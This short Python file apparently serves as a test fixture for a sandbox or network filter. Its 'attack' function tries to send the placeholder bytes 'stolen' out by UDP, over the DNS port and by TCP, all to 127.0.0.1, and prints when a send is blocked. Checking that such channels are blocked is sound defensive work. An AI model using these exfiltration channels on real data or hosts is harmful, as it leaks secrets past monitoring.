"""Sends the inputs out by TCP, by UDP and as a DNS question."""

import socket


def attack(world):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        for port in (world["udp_port"], 53):
            try:
                udp.sendto(b"stolen", ("127.0.0.1", port))
            except OSError as error:
                print("stopped:", error)
    with socket.create_connection(("127.0.0.1", world["tcp_port"]), timeout=2) as tcp:
        tcp.sendall(b"stolen")
